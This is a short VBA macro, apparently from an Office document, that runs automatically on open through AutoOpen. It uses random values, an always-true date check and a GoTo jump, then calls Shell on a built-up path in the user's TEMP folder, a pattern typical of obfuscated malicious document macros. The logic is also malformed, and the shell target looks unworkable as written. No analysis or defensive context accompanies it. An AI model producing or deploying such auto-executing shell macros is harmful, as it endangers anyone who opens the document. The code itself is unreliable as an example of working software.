Sub AutoOpen()
If Rnd > 0.5 Then s = "a" Else s = "b"
If Now > 1 Then GoTo far
Exit Sub
far: Shell s & Environ("TEMP")
Do While Rnd > 0.1: s = s & 1: Loop
End Sub
